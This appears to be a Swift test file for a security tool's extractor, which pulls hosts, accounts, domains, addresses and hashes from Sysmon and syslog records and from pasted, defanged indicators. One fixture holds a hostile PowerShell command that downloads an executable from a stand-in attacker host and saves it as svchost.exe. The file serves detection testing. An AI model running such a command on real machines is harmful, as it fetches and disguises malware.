import Events
import Foundation
import TestSupport
import Testing
import Vocabulary

/// What the extractor finds in one line, as `kind:text`.
private func observables(_ line: String) -> Set<String> {
    let names = FieldNames()
    var reader = RecordReader(names: names, now: Instant(milliseconds: 1_770_000_000_000))
    var event = Event(names: names)
    var report = DecodingReport()
    var extractor = ObservableExtractor(names: names)
    var found: Set<String> = []
    reader.take(Array(line.utf8).span, number: 1, into: &event, report: &report) { event in
        extractor.forEach(in: event) { one in
            found.insert("\(one.kind.name):\(event.text(one.text).lowercased())")
            if let typed = Observable(one.kind, event.text(one.text)) {
                #expect(typed.fingerprint == one.fingerprint, "\(typed)")
            }
        }
    }
    return found
}

@Suite("Observables")
struct ObservableTests {
    @Test(
        "A Windows record names its machine, its accounts, its addresses, its hashes and the domains of its commands"
    )
    func windows() {
        let found = observables(
            #"{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Computer":"PC-7.chu.example","User":"CHU\\JDupont","CommandLine":"powershell -c iwr https://cdn.Evil.example/a.exe -o C:\\Temp\\svchost.exe","Hashes":"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E","DestinationIp":"203.0.113.9","SourceIp":"::1"}"#
        )
        #expect(
            found == [
                "host:pc-7.chu.example", "host:pc-7", "domain:pc-7.chu.example", "domain:chu.example",
                "account:jdupont", "domain:cdn.evil.example", "domain:evil.example",
                "hash:da39a3ee5e6b4b0d3255bfef95601890afd80709", "hash:d41d8cd98f00b204e9800998ecf8427e",
                "address:203.0.113.9",
            ])
    }

    @Test("A syslog line names what stands in its text")
    func syslog() {
        let found = observables(
            "<34>1 2026-02-11T02:04:05Z fw1 filter - - - blocked 198.51.100.7:4444 -> [2001:DB8::7]:443 by evil.example. mail=<a.b@mail.example>"
        )
        #expect(
            found.isSuperset(of: [
                "host:fw1", "address:198.51.100.7", "domain:evil.example", "account:a.b@mail.example",
                "account:a.b", "domain:mail.example",
            ]), "\(found)")
        #expect(found.contains { $0.hasPrefix("address:2001:db8::7") }, "\(found)")
    }

    @Test(
        "What only looks like an observable is none",
        arguments: [
            "version 10.0.19041.1", "at 12:34:56.789", "file kernel32.dll and readme.txt",
            "0.0.0.0 and 127.0.0.1 and ::1",
            "00:11:22:33:44:55", "{5F1B2C3D-0000-0000-0000-000000000000}", "1.2.3", "300.1.1.1",
            "01.02.03.04", "a..b", "x@y",
            "deadbeef", "-.example", "1:2:3:4:5:6:7:8:9",
        ])
    func nothing(_ text: String) {
        #expect(observables("<34>1 2026-02-11T02:04:05Z - app - - - " + text).isEmpty)
    }

    @Test(
        "An address has one fingerprint, however it is written",
        arguments: [
            ("2001:0DB8:0:0:0:0:0:1", "2001:db8::1"), ("::ffff:192.0.2.1", "192.0.2.1"),
            ("::FFFF:C000:0201", "192.0.2.1"),
            ("64:ff9b::192.0.2.33", "64:ff9b::c000:221"), ("1:0:0:2:0:0:0:3", "1:0:0:2::3"),
            ("1:2:3:4:5:6:7::", "1:2:3:4:5:6:7:0"),
            ("fe80::", "fe80::"),
        ])
    func addresses(written: String, normal: String) throws {
        let one = try #require(Observable(.address, written))
        #expect(one.text == normal)
        #expect(one == Observable(.address, normal))
    }

    @Test(
        "No text that is not an address is read as one",
        arguments: [
            "1.2.3", "1.2.3.4.5", "1.2.3.256", "1.2.3.04", "1:2:3", ":1::", "1::2::3", "1:2:3:4:5:6:7:8:9",
            "12345::", "::1:", "g::",
            "1.2.3.4::", "1:2:3:4:5:6:7:1.2.3.4", "", ":", "1..2.3",
        ])
    func noAddress(_ text: String) { #expect(Observable(.address, text) == nil) }

    @Test(
        "What a person pastes is read as what it may be",
        arguments: [
            ("hxxps://cdn[.]evil[.]example/a?b", ["domain:cdn.evil.example", "host:cdn.evil.example"]),
            (" 198[.]51.100.7 ", ["address:198.51.100.7"]),
            ("http://[2001:db8::1]:80/x", ["address:2001:db8::1"]),
            ("D41D8CD98F00B204E9800998ECF8427E", ["hash:d41d8cd98f00b204e9800998ecf8427e"]),
            ("CHU\\Sauvegarde", ["account:sauvegarde"]), ("a@chu.example", ["account:a@chu.example"]),
            ("srv-pacs", ["host:srv-pacs", "account:srv-pacs"]), ("account:srv-pacs", ["account:srv-pacs"]),
            ("machine:SRV-PACS", ["host:srv-pacs"]),
            ("setup.exe", ["domain:setup.exe", "host:setup.exe"]), ("", []), ("a b", ["account:a b"]),
        ])
    func pasted(text: String, read: [String]) {
        #expect(Observable.reading(text).map(\.description) == read)
    }

    @Test("A domain is found by its parents, and not by what only ends alike")
    func parents() throws {
        let found = observables(#"{"QueryName":"a.b.evil.example","EventID":22,"Channel":"x"}"#)
        #expect(found == ["domain:a.b.evil.example", "domain:b.evil.example", "domain:evil.example"])
    }

    @Test("No bytes stop the extractor, and it finds the same in them twice")
    func random() {
        var numbers = Seed().numbers
        let alphabet = Array("0123456789abcdefxyz.:@-_/\\ []é=,;%".utf8)
        let names = FieldNames()
        var extractor = ObservableExtractor(names: names)
        for _ in 0..<20_000 {
            var event = Event(names: names)
            let text = String(
                decoding: (0..<Int.random(in: 0...80, using: &numbers)).map { _ in numbers.pick(alphabet) },
                as: UTF8.self)
            event.append(numbers.pick(["message", "User", "host", "url", "Computer"]), text)
            var first: [UInt64] = []
            var second: [UInt64] = []
            extractor.forEach(in: event) { first.append($0.fingerprint.value) }
            extractor.forEach(in: event) { second.append($0.fingerprint.value) }
            #expect(first == second)
            #expect(Set(first).count == first.count)
        }
    }
}

@Suite("Observables of real records", .enabled(if: Corpora.arePresent))
struct ObservableCorpusTests {
    @Test("Recorded attacks name machines, accounts, addresses and hashes")
    func corpus() throws {
        let folder = try #require(Corpora.folder).appending(path: "winjson")
        let names = FieldNames()
        var extractor = ObservableExtractor(names: names)
        var counts: [ObservableKind: Int] = [:]
        var records = 0
        let bytes = try [UInt8](Data(contentsOf: folder.appending(path: "events.ndjson")))
        var reader = RecordReader(names: names, now: Instant(milliseconds: 1_770_000_000_000))
        var event = Event(names: names)
        var report = DecodingReport()
        for line in bytes.split(separator: 0x0A) {
            reader.take(line.span, number: 1, into: &event, report: &report) { event in
                records += 1
                extractor.forEach(in: event) { counts[$0.kind, default: 0] += 1 }
            }
        }
        #expect(records > 1_000)
        for kind in ObservableKind.allCases { #expect(counts[kind, default: 0] > 0, "\(kind)") }
    }
}
